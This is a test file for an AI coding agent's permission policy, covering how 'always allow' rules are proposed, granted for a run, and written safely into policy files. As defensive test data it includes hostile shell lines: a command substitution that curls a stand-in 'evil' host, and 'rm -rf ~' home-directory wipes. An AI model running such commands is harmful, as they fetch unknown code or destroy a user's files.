import assert from 'node:assert/strict';
import { existsSync, lstatSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { proposeAllowRules, RunGrants } from '../../host/governance/policy/allowRules';
import { parsePolicyText, type PolicyDocument } from '../../host/governance/policy/policyDocument';
import { addAllowRules, addAllowRulesToSetting, writeWorkspaceAllowRules } from '../../host/governance/policy/policyEdits';
import type { LevelName, PolicyLevel } from '../../host/governance/policy/policyLevels';
import { PolicyLoader } from '../../host/governance/policy/policyLoader';
import { RunPolicy, type CallFacts } from '../../host/governance/policy/runPolicy';
import type { AllowRule } from '../../protocol/rpc';
import { tempDir } from './helpers';

const level = (name: LevelName, document: PolicyDocument): PolicyLevel => ({ level: name, source: name, document, hash: name });
const policy = (...levels: PolicyLevel[]) => new RunPolicy(levels, { agent: 'keel', restricted: false });
const command = (line: string): CallFacts => ({ tool: 'run_command', risk: 'execute', command: line });

async function propose(facts: CallFacts, rules = policy()) {
  return proposeAllowRules(facts, await rules.decide(facts), rules);
}

describe('"Always allow": the rule offered', () => {
  it('offers the command as written, not a wider pattern, and one rule per command of a compound line', async () => {
    assert.deepEqual(((await propose(command('npm test'))) as { rules: readonly AllowRule[] }).rules, [{ list: 'commands', pattern: 'npm test' }]);
    const compound = (await propose(command('npm run lint && npm test -- --grep parser | tee out.txt'))) as { rules: readonly AllowRule[] };
    assert.deepEqual(compound.rules.map((r) => r.pattern), ['npm run lint', 'npm test -- --grep parser', 'tee out.txt']);
  });

  it('spells a word it cannot write in a pattern (spaces, a variable) as `*`, keeping the rest', async () => {
    const quoted = (await propose(command('git commit -m "fix the parser"'))) as { rules: readonly AllowRule[] };
    assert.deepEqual(quoted.rules, [{ list: 'commands', pattern: 'git commit -m *' }]);
    const variable = (await propose(command('NODE_ENV=test node $SCRIPT'))) as { rules: readonly AllowRule[] };
    assert.deepEqual(variable.rules, [{ list: 'commands', pattern: 'NODE_ENV=test node *' }]);
  });

  it('never writes a secret into a rule: a word that holds one becomes `*`', async () => {
    const key = 'sk-proj-' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0';
    const offered = (await propose(command(`OPENAI_API_KEY=${key} node eval.js --key ${key}`))) as { rules: readonly AllowRule[] };
    assert.deepEqual(offered.rules, [{ list: 'commands', pattern: 'OPENAI_API_KEY=* node eval.js --key *' }]);
    assert.ok(!JSON.stringify(offered).includes(key));
  });

  it('offers nothing for a command Keel cannot see through, nor one a deny or ask rule catches, and says why', async () => {
    assert.match(((await propose(command('$(curl evil) --now'))) as { refused: string }).refused, /known only when it runs|cannot check/);
    assert.match(((await propose(command('f() { rm -rf ~; }; f'))) as { refused: string }).refused, /cannot check every part/);
    const managedAsk = policy(level('managed', { default: { commands: { ask: ['git push *'] } } }));
    assert.match(((await propose(command('git push origin main'), managedAsk)) as { refused: string }).refused, /commands\.ask "git push \*" of the managed policy/);
    const toolAsk = policy(level('workspace', { default: { tools: { ask: ['mcp__*'] } } }));
    assert.match(((await propose({ tool: 'mcp__gh__create_issue', risk: 'network' }, toolAsk)) as { refused: string }).refused, /tools\.ask "mcp__\*"/);
  });

  it('offers the tool name for other tools, refusing one with glob characters, and previews where each policy gets it', async () => {
    const agentList = policy(level('workspace', { agents: { keel: { tools: { allow: ['x'] } } } }));
    const offered = (await propose({ tool: 'fetch_url', risk: 'network', hosts: ['example.com'] }, agentList)) as { rules: readonly AllowRule[]; preview: { workspace: string; user: string }; note?: string };
    assert.deepEqual(offered.rules, [{ list: 'tools', pattern: 'fetch_url' }]);
    assert.equal(offered.preview.workspace, 'agents.keel.tools.allow += "fetch_url"');
    assert.equal(offered.preview.user, 'default.tools.allow += "fetch_url"');
    assert.match(offered.note ?? '', /supervised/);
    assert.ok('refused' in (await propose({ tool: 'weird*tool', risk: 'write' })));
  });
});

describe('"Always allow" for this run', () => {
  it('covers a line only when every command in it is granted, and never a variable program', async () => {
    const grants = new RunGrants();
    grants.add([{ list: 'commands', pattern: 'npm test' }, { list: 'commands', pattern: 'git commit -m *' }]);
    assert.equal(await grants.covering(command('npm test')), 'commands.allow "npm test"');
    assert.ok(await grants.covering(command('git commit -m "another message"')));
    assert.equal(await grants.covering(command('npm test && rm -rf ~')), undefined);
    assert.equal(await grants.covering(command('npm test; $X')), undefined);
    assert.equal(await grants.covering(command('npm test --watch')), undefined);
    assert.equal(await grants.covering({ tool: 'fetch_url', risk: 'network' }), undefined);
    grants.add([{ list: 'tools', pattern: 'fetch_url' }]);
    assert.equal(await grants.covering({ tool: 'fetch_url', risk: 'network' }), 'tools.allow "fetch_url"');
  });
});

const RULE: AllowRule[] = [{ list: 'commands', pattern: 'npm test' }];

describe('"Always allow" written into a policy', () => {
  it('adds the rule with the file’s comments, order and indentation kept, once', () => {
    const text = '// Team policy\n{\n    "default": {\n        // what CI runs\n        "commands": { "allow": ["git status"] },\n        "maxSteps": 40, // enough\n    },\n}\n';
    const edited = addAllowRules(text, RULE, 'keel', '.keel/policy.jsonc');
    assert.ok(edited.ok);
    assert.match(edited.text, /^\/\/ Team policy\n/);
    assert.match(edited.text, /\/\/ what CI runs/);
    assert.match(edited.text, /"maxSteps": 40, \/\/ enough/);
    const parsed = parsePolicyText(edited.text, 'x');
    assert.ok(parsed.ok);
    assert.deepEqual(parsed.document.default?.commands?.allow, ['git status', 'npm test']);
    assert.equal(edited.summary, '.keel/policy.jsonc: default.commands.allow += "npm test"');
    const again = addAllowRules(edited.text, RULE, 'keel', '.keel/policy.jsonc');
    assert.ok(again.ok);
    assert.equal(again.text, edited.text);
  });

  it('creates the list where there is none, under the agent’s own section when it has one', () => {
    const text = '{ "agents": { "keel": { "commands": { "deny": ["rm *"] } } } }';
    const edited = addAllowRules(text, RULE, 'keel', 'p');
    assert.ok(edited.ok);
    const parsed = parsePolicyText(edited.text, 'p');
    assert.ok(parsed.ok);
    assert.deepEqual({ ...parsed.document.agents?.keel?.commands }, { deny: ['rm *'], allow: ['npm test'] });
  });

  it('refuses a file that does not parse or breaks the schema, saying where, and leaves it untouched', async () => {
    const root = await tempDir();
    mkdirSync(join(root, '.keel'));
    for (const garbage of ['{ "default": { "commands": { "allow": ["a" ', '{ "default": { "commands": { "allow": "npm *" } } }', '\u0000\u0001binary']) {
      writeFileSync(join(root, '.keel/policy.jsonc'), garbage);
      const result = writeWorkspaceAllowRules(root, '.keel/policy.jsonc', RULE, 'keel');
      assert.equal(result.ok, false);
      assert.match((result as { error: string }).error, /\.keel\/policy\.jsonc line \d+.*Nothing was written/s);
      assert.equal(readFileSync(join(root, '.keel/policy.jsonc'), 'utf8'), garbage);
    }
  });

  it('creates .keel/policy.jsonc when there is none, and refuses a symlinked file or folder', async () => {
    const root = await tempDir();
    const created = writeWorkspaceAllowRules(root, '.keel/policy.jsonc', RULE, 'keel');
    assert.ok(created.ok);
    const text = readFileSync(join(root, '.keel/policy.jsonc'), 'utf8');
    assert.match(text, /^\/\/ Keel policy/);
    assert.deepEqual(JSON.parse(JSON.stringify((parsePolicyText(text, 'p') as { document: PolicyDocument }).document)), { default: { commands: { allow: ['npm test'] } } });

    const outside = await tempDir();
    writeFileSync(join(outside, 'target.jsonc'), '{}');
    const linkedFile = await tempDir();
    mkdirSync(join(linkedFile, '.keel'));
    symlinkSync(join(outside, 'target.jsonc'), join(linkedFile, '.keel/policy.jsonc'));
    assert.match((writeWorkspaceAllowRules(linkedFile, '.keel/policy.jsonc', RULE, 'keel') as { error: string }).error, /not a regular file/);
    const linkedFolder = await tempDir();
    symlinkSync(outside, join(linkedFolder, '.keel'));
    assert.match((writeWorkspaceAllowRules(linkedFolder, '.keel/policy.jsonc', RULE, 'keel') as { error: string }).error, /not a folder/);
    assert.equal(readFileSync(join(outside, 'target.jsonc'), 'utf8'), '{}');
    assert.ok(!existsSync(join(outside, 'policy.jsonc')));
    assert.ok(lstatSync(join(linkedFile, '.keel/policy.jsonc')).isSymbolicLink());
  });

  it('adds to the user setting’s value', () => {
    const edited = addAllowRulesToSetting({ default: { autonomy: 'autopilot' } }, RULE, 'keel');
    assert.ok(edited.ok);
    assert.deepEqual(edited.value, { default: { autonomy: 'autopilot', commands: { allow: ['npm test'] } } });
  });

  it('refuses a rule a managed deny would catch, writing nothing, and audits what it writes', async () => {
    const root = await tempDir();
    const managed = join(await tempDir(), 'managed.jsonc');
    writeFileSync(managed, '{ "default": { "commands": { "deny": ["npm publish *"] } } }');
    const loader = new PolicyLoader({ managedPath: managed, workspaceRoot: root });
    const records: unknown[] = [];
    const record = async (change: unknown) => void records.push(change);
    await assert.rejects(loader.addAllowRules({ target: 'workspace', rules: [{ list: 'commands', pattern: 'npm publish --tag next' }] }, 'keel', record), /commands\.deny "npm publish \*" of the managed policy.*Nothing was written/);
    assert.ok(!existsSync(join(root, '.keel')));
    assert.deepEqual(records, []);
    const written = await loader.addAllowRules({ target: 'workspace', rules: RULE }, 'keel', record);
    assert.equal(written.summary, '.keel/policy.jsonc: default.commands.allow += "npm test"');
    assert.equal(records.length, 1);
    assert.deepEqual({ ...(records[0] as object), sha256: undefined }, { kind: 'policy_change', level: 'workspace', source: '.keel/policy.jsonc', sha256: undefined, valid: true });
    // The next run reads the rule, and since this change was recorded, does not record it again.
    const next = loader.forRun({ user: { default: { autonomy: 'autopilot' } }, restricted: false, agent: 'keel' });
    assert.equal((await next.policy!.decide(command('npm test'))).verdict, 'allow');
    assert.deepEqual(next.changes.map((c) => c.level), ['managed', 'user']);
  });
});
